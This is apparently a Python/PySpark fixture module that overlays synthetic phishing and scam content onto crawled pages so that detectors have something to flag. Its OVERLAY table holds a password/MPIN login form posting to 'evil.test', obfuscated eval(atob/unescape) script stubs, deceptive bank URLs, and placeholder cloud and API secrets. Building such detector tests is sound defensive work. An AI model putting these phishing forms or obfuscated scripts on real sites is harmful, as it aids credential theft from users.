"""Captured pages: scan_id, url, headers, html, requests.

The driver's pages hold almost none of what the detectors look for, so queries run over an overlay: each page keeps its
html and gets the suffix, the headers and perhaps the url of bucket page_id % BUCKETS. Bucket 0 changes nothing. The
overlay is synthetic, and the same in Spark and in SQL.
"""

from __future__ import annotations

from collections.abc import Iterator

import numpy as np
import pyarrow as pa
from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.literals import sql_of
from . import symbols

BUCKETS = 24
#: Pictures in an Arrow batch: some MB; pages that a task draws.
_PICTURES, _PAGES = 256, 2000
_KEY = "AKIA" + "ABCDEFGHIJKLMNOP"
_LOGIN = '<form action="{}"><input type="password" name="pin"><input type="text" name="{}"></form>'

#: bucket: (url or None, suffix)
OVERLAY: dict[int, tuple[str | None, str]] = {
    1: (None, "<p>Double your money today! GUARANTEED profit, claim your reward now. Pay by GCash.</p>"),
    2: (None, "<p>Verify your account, act now: limited slots. Send payment to the agent.</p>"),
    3: (None, "<a href='https://t.me/agent_one'>x</a> https://t.me/agent_one t.me/agent_two https://wa.me/639171234567"),
    4: (None, "pay bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq or 0x52908400098527886E0F7030069857D2E4169EE7 p1,500.00 09171234567"),
    5: (None, "<script>eval(atob('YQ=='));document.write('x')</script>"),
    6: ("http://gcash.login.example.xyz/login/verify?x=1", _LOGIN.format("http://evil.test/c", "mpin") + " maya and bpi"),
    7: ("https://www.gcash.com/account", _LOGIN.format("/in", "csrf_token") + " gcash"),
    8: ("https://10.1.2.3/update", "<input type='text' name='otp' placeholder='Card Number'> metrobank"),
    9: ("https://bank.com@evil.test/secure", "the mayabird flew"),
    10: ("http://a.b.c.d.xn--bcher-kva.example/wallet", ""),
    11: ("https://a-b-c-d-e.example.com.ph:8443/", f"<p>{_KEY} {_KEY}</p> password = 'correcthorse'"),
    12: (None, '<meta name="generator" content="WordPress 5.2"><script src="/wp-content/x/jquery-3.4.1.min.js"></script>'),
    13: (None, "".join(f'<img src="http://cdn{i}.test/a.png">' for i in range(7))),
    14: (None, "api_key: 'abcdefgh12345678' and 192.168.1.20 10.0.0.7"),
    16: (None, "https://api.telegram.org/bot12:ab viber://chat?number=63917 m.me/agent.one gcash-login.xyz " + "T" + "9" * 33 + " GCASH-LOGIN.XYZ"),
    17: (None, "<script>eval(unescape('%20'));String.fromCharCode(1, 2,3,4,5,6,7,8,9);eval(function(p,a,c,k,e,d){})</script>"),
    18: (None, " ".join(("AI" + "za" + "x" * 35, "sk_" + "live_" + "1" * 16, "gh" + "p_" + "a" * 36, "xo" + "xb-" + "1" * 12, "-----BEGIN " + "PRIVATE KEY-----", "ey" + "J" + ".".join(("a" * 9,) * 3), "https://user:pass@x.test/"))),
    15: (None, '<meta name="generator" content="Joomla"><a href="/setup.exe">get</a> angular/1.8.2 react-16.2.0'),
}
#: bucket: {header: value}
HEADERS: dict[int, dict[str, str]] = {
    12: {"Server": "Apache/2.4.49 (Unix) PHP/7.2.1", "Set-Cookie": "PHPSESSID=abc; path=/"},
    13: {"Server": "nginx/1.18.0", "Content-Security-Policy": "default-src * 'unsafe-inline' 'unsafe-eval'", "Strict-Transport-Security": "max-age=1"},
    14: {"X-Powered-By": "Express; x", "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Credentials": "TRUE", "Set-Cookie": "theme=dark; Secure; HttpOnly; SameSite=Lax"},
    15: {"Server": "cloudflare", "Access-Control-Allow-Origin": "*", "X-Frame-Options": "  ", "Set-Cookie": "laravel_session=1; Secure"},
}


def lowered(headers: str) -> Column:
    """A header map with lower-case names; of names that then agree the last counts."""
    entries = F.transform(F.map_entries(headers), lambda e: F.struct(F.lower(e["key"]).alias("key"), e["value"].alias("value")))
    last = F.transform(F.array(entries), lambda all_: F.filter(all_, lambda e, i: ~F.exists(F.slice(all_, i + 2, F.size(all_)), lambda x: x["key"] == e["key"])))[0]
    return F.map_from_entries(last)


def normalised(raw: DataFrame) -> DataFrame:
    """Captures (scan_id, url, html, headers, requests) as detectors take them: header names in lower case, nothing null but
    urls. Other columns stay."""
    return raw.withColumns(
        {
            "html": F.coalesce("html", F.lit("")),
            "headers": F.coalesce(lowered("headers"), F.create_map().cast("map<string,string>")),
            "requests": F.coalesce("requests", F.array().cast("array<string>")),
        }
    )


def landed_captures(pages: DataFrame) -> DataFrame:
    """normalised captures of what a crawler landed: scan_id, target_url, final_url, http_status, response_headers, dom_html,
    network_requests, screenshot_path, rendered, captured_at. A capture without a final url keeps its target's."""
    names = {"dom_html": "html", "response_headers": "headers", "network_requests": "requests"}
    url = F.coalesce(F.nullif(F.trim("final_url"), F.lit("")), "target_url")
    raw = pages.withColumnsRenamed(names).withColumns({"url": url, "http_status": F.coalesce("http_status", F.lit(0)), "rendered": F.coalesce("rendered", F.lit(False))})
    return normalised(raw.drop("final_url"))


def captures(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The driver's pages with the overlay."""
    return overlaid(spark.read.parquet(f"{sf_dir}/pages.parquet"))


def capture_stream(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The same as a stream, as files land."""
    schema = spark.read.parquet(f"{sf_dir}/pages.parquet").schema
    return overlaid(spark.readStream.schema(schema).parquet(f"{sf_dir}/pages.parque[t]"))  # a pattern, so that it may be one file


def overlaid(pages: DataFrame) -> DataFrame:
    """Pages with the overlay: literal tables of a few rows, looked up by bucket in the page's row."""
    pick = lambda table: f"CASE pmod(page_id, {BUCKETS}) " + " ".join(f"WHEN {b} THEN {v}" for b, v in table.items()) + " END"
    urls = {b: sql_of(u) for b, (u, _) in OVERLAY.items() if u is not None}
    heads = {b: "map(" + ", ".join(sql_of(x) for kv in h.items() for x in kv) + ")" for b, h in HEADERS.items()}
    raw = pages.selectExpr(
        "page_id AS scan_id",
        f"coalesce({pick(urls)}, url) AS url",
        f"concat(coalesce(html, ''), coalesce({pick({b: sql_of(s) for b, (_, s) in OVERLAY.items()})}, '')) AS html",
        f"{pick(heads)} AS headers",
        "CAST(array() AS array<string>) AS requests",
    )
    return normalised(raw)


def screenshots(pages: DataFrame) -> DataFrame:
    """(scan_id, width, height, channels, pixels): for each page with a url a synthetic screenshot with a code of it, at a
    scale and turn and with damage by its id, as much as the code's level allows for every third. Ids and urls are dealt out
    first, since drawing takes a thousand times as long as reading them, and one file may hold all pages."""

    def picture(i: int, text: str) -> dict:
        level = "LMQH"[i % 4]
        modules = symbols.code_of(text, level, i % 8)
        most = symbols.CHECK_WORDS[level][(len(modules) - 17) // 4 - 1] // 2
        grey = symbols.drawn(symbols.damaged(modules, most if i % 3 == 0 else 0, i), 2 + i % 3, turns=i // 4 % 4)
        return {"width": grey.shape[1], "height": grey.shape[0], "channels": 1, "pixels": np.ascontiguousarray(grey).tobytes()}

    kind = pa.struct([("width", pa.int32()), ("height", pa.int32()), ("channels", pa.int32()), ("pixels", pa.binary())])

    def draw(batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
        for batch in batches:
            for at in range(0, len(batch), _PICTURES):
                part = batch.slice(at, _PICTURES)
                shots = pa.array([picture(*x) for x in zip(part.column(0).to_pylist(), part.column(1).to_pylist())], kind)
                yield pa.RecordBatch.from_arrays([part.column(0), *shots.flatten()], ["scan_id", *(f.name for f in kind)])

    tasks = max(pages.count() // _PAGES, pages.sparkSession.sparkContext.defaultParallelism)
    used = pages.where("length(url) > 0").select(F.col("page_id").alias("scan_id"), "url").repartition(tasks)
    return used.mapInArrow(draw, f"scan_id {used.schema['scan_id'].dataType.simpleString()}, width int, height int, channels int, pixels binary")


def quoted(x) -> str:
    return "NULL" if x is None else str(x) if isinstance(x, (int, float)) else "'" + str(x).replace("'", "''") + "'"


def values(rows) -> str:
    return "(VALUES " + ", ".join("(" + ", ".join(map(quoted, r)) + ")" for r in rows) + ")"


def captures_sql() -> str:
    """Common table expressions cap(scan_id, url, html, bucket, host, path, authority) and hdr(scan_id, name, value)."""
    over = values((b, u, s) for b, (u, s) in OVERLAY.items())
    heads = values((b, k.lower(), v) for b, h in HEADERS.items() for k, v in h.items())
    return f"""WITH raw AS (
  SELECT page_id AS scan_id, coalesce(o.u, p.url) AS url, coalesce(p.html, '') || coalesce(o.s, '') AS html, page_id % {BUCKETS} AS bucket
  FROM pages p LEFT JOIN {over} o(b, u, s) ON p.page_id % {BUCKETS} = o.b
), part AS (
  SELECT *, split_part(split_part(split_part(CASE WHEN contains(url, '://') THEN split_part(url, '://', 2) ELSE url END, '/', 1), '?', 1), '#', 1) AS authority FROM raw
), cap AS (
  SELECT *, lower(regexp_replace(split_part(authority, '@', -1), ':[0-9]*$', '')) AS host,
    regexp_extract(url, '^(?:[A-Za-z][A-Za-z0-9+.-]*://)?[^/?#]*([^?#]*)', 1) AS path FROM part
), hdr AS (
  SELECT scan_id, h.name, h.value FROM cap JOIN {heads} h(b, name, value) ON cap.bucket = h.b
)"""
